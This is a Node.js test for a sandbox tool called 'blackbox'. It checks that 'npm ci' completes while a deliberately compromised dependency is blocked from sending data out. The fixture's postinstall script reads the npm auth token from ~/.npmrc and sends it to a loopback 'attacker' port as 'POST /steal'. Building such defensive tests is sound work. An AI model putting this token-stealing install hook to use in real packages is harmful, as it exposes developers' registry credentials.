'use strict';
// npm ci under `blackbox run`: a small project whose one dependency (a local tarball) has a
// compromised postinstall that reads ~/.npmrc and POSTs it to a loopback "attacker". The
// install runs with writes limited to the project and npm's cache, child processes allowed
// (npm runs scripts through sh; they inherit every limit) and the network limited to one
// granted loopback port. Evidence: node_modules is complete, the postinstall ran (its marker
// file), the attacker's server received nothing, and blackbox reported the denied connect.
const test = require('node:test');
const assert = require('node:assert/strict');
const { spawn, spawnSync } = require('node:child_process');
const fs = require('node:fs');
const path = require('node:path');
const { ROOT, haveKernel, recordingServer, tempDir } = require('../helpers/harness');

const BIN = path.join(ROOT, 'bin', 'blackbox.js');
const npmCli = (() => {
  const e = process.env.npm_execpath;
  if (e && /npm-cli\.js$/.test(e)) return e;
  const p = path.join(path.dirname(process.execPath), '..', 'lib', 'node_modules', 'npm', 'bin', 'npm-cli.js');
  return fs.existsSync(p) ? p : undefined;
})();
const skip = haveKernel() || (!npmCli && 'npm not found beside node');

function runBlackbox(args, env, cwd) {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [BIN, ...args], { cwd, env, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d) => { stdout += d; });
    child.stderr.on('data', (d) => { stderr += d; });
    const timer = setTimeout(() => child.kill('SIGKILL'), 90000);
    child.on('close', (status, signal) => { clearTimeout(timer); resolve({ status, signal, stdout, stderr }); });
  });
}

test('npm ci under blackbox run: the install completes, a postinstall posting ~/.npmrc to another loopback port is denied', { skip, timeout: 120000 }, async () => {
  const t = tempDir('bb-npm-');
  const attacker = await recordingServer({ lifetimeMs: 100000 });
  const granted = await recordingServer({ lifetimeMs: 100000 });
  try {
    const home = path.join(t.dir, 'home');
    const dep = path.join(t.dir, 'evil-dep');
    const proj = path.join(t.dir, 'proj');
    const cache = path.join(t.dir, 'cache');
    for (const d of [home, dep, proj, cache]) fs.mkdirSync(d);
    fs.writeFileSync(path.join(home, '.npmrc'), '//registry.example/:_authToken=SECRET-TOKEN-123\n');
    fs.writeFileSync(path.join(dep, 'package.json'), JSON.stringify({ name: 'evil-dep', version: '1.0.0', main: 'index.js', scripts: { postinstall: 'node postinstall.js' } }));
    fs.writeFileSync(path.join(dep, 'index.js'), "module.exports = 'evil-dep works';\n");
    // What a compromised package does: read the token, send it out, stay quiet on failure.
    fs.writeFileSync(path.join(dep, 'postinstall.js'), `
      const fs = require('node:fs'), net = require('node:net'), os = require('node:os'), path = require('node:path');
      let token = '';
      try { token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch {}
      fs.writeFileSync(path.join(process.env.INIT_CWD || '.', 'postinstall-ran'), token ? 'read the token' : 'no token');
      const s = net.connect(${attacker.port}, '127.0.0.1', () => { s.end('POST /steal ' + token); });
      s.on('error', (e) => { fs.writeFileSync(path.join(process.env.INIT_CWD || '.', 'postinstall-error'), JSON.stringify({ code: e.code, layer: e.layer, resource: e.resource })); });
    `);
    const pack = spawnSync(process.execPath, [npmCli, 'pack', '--silent', '--pack-destination', t.dir], { cwd: dep, encoding: 'utf8', env: { ...process.env, HOME: home, npm_config_cache: cache } });
    assert.equal(pack.status, 0, pack.stderr);
    const tgz = path.join(t.dir, pack.stdout.trim().split('\n').pop());
    fs.writeFileSync(path.join(proj, 'package.json'), JSON.stringify({ name: 'proj', version: '1.0.0', private: true, dependencies: { 'evil-dep': `file:${tgz}` } }));
    const env = {
      PATH: process.env.PATH,
      HOME: home,
      npm_config_cache: cache,
      npm_config_audit: 'false',
      npm_config_fund: 'false',
      npm_config_update_notifier: 'false',
      npm_config_offline: 'true',
      npm_config_registry: `http://127.0.0.1:${granted.port}/`,
    };
    // the lockfile is made outside the sandbox (ci needs one); no scripts run here
    const lock = spawnSync(process.execPath, [npmCli, 'install', '--package-lock-only', '--ignore-scripts'], { cwd: proj, encoding: 'utf8', env });
    assert.equal(lock.status, 0, lock.stderr);

    const r = await runBlackbox([
      'run', `--allow-fs-write=${proj},${cache}`, '--allow-child-process', `--allow-net=127.0.0.1:${granted.port}`,
      '--', process.execPath, npmCli, 'ci',
    ], env, proj);
    assert.equal(r.status, 0, r.stdout + r.stderr);
    // the install completed and the dependency works
    const got = spawnSync(process.execPath, ['-p', "require('evil-dep')"], { cwd: proj, encoding: 'utf8' });
    assert.equal(got.stdout.trim(), 'evil-dep works');
    // the postinstall ran, read the token (reads are allowed) and was denied the network
    assert.equal(fs.readFileSync(path.join(proj, 'postinstall-ran'), 'utf8'), 'read the token');
    const err = JSON.parse(fs.readFileSync(path.join(proj, 'postinstall-error'), 'utf8'));
    assert.equal(err.code, 'ERR_ACCESS_DENIED');
    assert.equal(err.resource, `127.0.0.1:${attacker.port}`);
    await new Promise((res) => setTimeout(res, 100));
    assert.equal(attacker.connections(), 0);
    assert.ok(!attacker.text().includes('SECRET'));
    // nothing was written outside the grants: the home directory is as it was
    assert.deepEqual(fs.readdirSync(home), ['.npmrc']);
  } finally {
    await Promise.all([attacker.close(), granted.close()]);
    t.cleanup();
  }
});
